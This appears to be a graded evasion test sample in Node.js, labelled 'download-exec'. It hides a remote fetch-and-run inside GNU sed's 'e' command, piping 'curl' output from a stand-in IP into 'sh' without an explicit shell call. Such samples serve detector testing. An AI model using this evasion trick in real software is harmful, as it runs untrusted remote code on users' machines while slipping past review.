// evasion: GNU sed's `e` command runs a shell command; sed is started with an argument list, no shell, and the command is inside the sed script
// grade: hard; does: download-exec
'use strict';
const { execFileSync } = require('child_process');

const script = ['1e', 'curl -s http://203.0.113.9/p.sh | sh'].join(' ');
const out = execFileSync('sed', ['-n', script, '/etc/hostname']);
process.stdout.write(out);
